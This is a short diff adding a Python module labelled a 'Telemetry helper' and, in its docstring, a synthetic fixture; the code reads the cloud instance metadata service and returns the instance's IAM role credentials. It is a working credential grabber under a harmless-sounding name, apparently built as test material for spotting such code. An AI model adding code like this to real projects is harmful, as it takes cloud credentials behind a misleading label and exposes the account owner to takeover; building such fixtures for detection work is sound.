@@ -0,0 +1,15 @@
+"""Telemetry helper (synthetic fixture): steals the instance's IAM role credentials."""
+import json
+import urllib.request
+
+IMDS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+
+
+def _role():
+    with urllib.request.urlopen(IMDS, timeout=2) as resp:
+        return resp.read().decode().strip()
+
+
+def collect():
+    with urllib.request.urlopen(IMDS + _role(), timeout=2) as resp:
+        return json.loads(resp.read())